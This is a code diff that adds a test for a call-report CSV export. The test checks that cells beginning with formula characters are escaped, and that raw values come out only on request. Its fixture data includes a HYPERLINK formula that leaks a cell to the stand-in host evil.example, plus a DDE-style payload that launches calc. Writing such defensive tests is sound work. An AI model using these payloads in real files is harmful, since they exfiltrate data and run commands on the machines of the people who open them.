@@ -159,6 +159,22 @@ describe.each(await databaseTargets())('pullreport and reports on $name', (targe
     ]);
   });
 
+  it('exports cells and headers that a spreadsheet would run as formulas as text, and raw values only with raw=true', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
+    await write(
+      call('formulas', '7', '2026-11-01T10:00:00+05:30', key('callId', 'f1'), key('dtmf', '-1'), key('dnis', '+918001234567'), key('note', formula), key('@SUM(1+1)', 'at'), key('cmd', '+cmd|\' /C calc\'!A0'), key('plain', 'a=b')),
+    );
+    const safe = await csv('formulas');
+    expect(safe.response.body.split('\r\n')[0]).toBe(`startTime,startAt,flowId,dnis,dtmf,callId,accountId,stage,receivedAt,"'@SUM(1+1)",cmd,note,plain`);
+    expect(safe.records).toEqual([
+      expect.objectContaining({ dnis: "'+918001234567", dtmf: "'-1", note: `'${formula}`, "'@SUM(1+1)": 'at', cmd: "'+cmd|' /C calc'!A0", plain: 'a=b' }),
+    ]);
+    const raw = await csv('formulas', '&raw=true');
+    expect(raw.records).toEqual([expect.objectContaining({ dnis: '+918001234567', dtmf: '-1', note: formula, '@SUM(1+1)': 'at' })]);
+    // JSON answers are data for programs, not spreadsheets: never changed.
+    expect((await rows('formulas')).rows[0]).toMatchObject({ dnis: '+918001234567', dtmf: '-1', extra: expect.objectContaining({ note: formula }) });
+  });
+
   it('exports a header alone when nothing matches', async () => {
     const { response, records } = await csv('nothing');
     expect(records).toEqual([]);
